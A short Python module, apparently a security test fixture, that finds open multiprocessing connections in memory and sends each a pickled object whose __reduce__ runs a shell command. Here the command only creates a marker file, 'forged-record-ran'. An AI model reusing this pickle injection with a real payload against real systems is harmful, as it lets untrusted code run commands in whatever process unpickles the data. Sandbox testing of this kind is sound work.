import gc
import os
import pickle
from multiprocessing.connection import Connection
from pathlib import Path


class Payload:
    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def run(session, country, limit):
    marker = Path(session.get_bind().url.database).parent / "forged-record-ran"
    for obj in gc.get_objects():
        if isinstance(obj, Connection) and obj.writable:
            try:
                obj.send_bytes(pickle.dumps(Payload(marker)))
            except OSError:
                pass
    os._exit(0)
